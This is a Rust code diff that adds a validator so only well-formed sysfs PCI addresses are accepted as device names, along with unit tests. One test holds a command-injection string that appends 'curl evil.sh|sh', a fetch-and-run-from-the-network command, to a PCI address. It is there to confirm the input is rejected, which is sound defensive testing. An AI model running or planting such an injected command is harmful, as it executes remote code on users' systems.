@@ -79,6 +79,11 @@ pub fn probe(fs: &HostFs) -> Pci {
     };
     let mut devices = Vec::new();
     for name in names {
+        // Only real PCI function names: anything else is not a device, and the names end
+        // up in suggested commands.
+        if !name.to_str().is_some_and(is_pci_address) {
+            continue;
+        }
         let base = dir.join(&name);
         let read_hex = |file: &str| -> Option<u32> {
             let f = fs.read_text_limited(&base.join(file), 64).ok()?;
@@ -113,9 +118,35 @@ pub fn probe(fs: &HostFs) -> Pci {
     }
 }
 
+/// `DDDD:BB:DD.F` (domain, bus, device, function), as sysfs names PCI functions.
+pub fn is_pci_address(name: &str) -> bool {
+    let hex = |s: &str, n: std::ops::RangeInclusive<usize>| {
+        n.contains(&s.len()) && s.bytes().all(|b| b.is_ascii_hexdigit())
+    };
+    let Some((rest, function)) = name.rsplit_once('.') else {
+        return false;
+    };
+    let parts: Vec<&str> = rest.split(':').collect();
+    parts.len() == 3
+        && hex(parts[0], 4..=8)
+        && hex(parts[1], 2..=2)
+        && hex(parts[2], 2..=2)
+        && function.len() == 1
+        && function.bytes().all(|b| (b'0'..=b'7').contains(&b))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn pci_addresses() {
+        assert!(is_pci_address("0000:01:00.0"));
+        assert!(is_pci_address("10000:c1:1f.7"));
+        assert!(!is_pci_address("0000:20:00.0 && curl evil.sh|sh #"));
+        assert!(!is_pci_address("loop"));
+        assert!(!is_pci_address("0000:01:00.8"));
+    }
 
     #[test]
     fn roles_from_class_codes() {
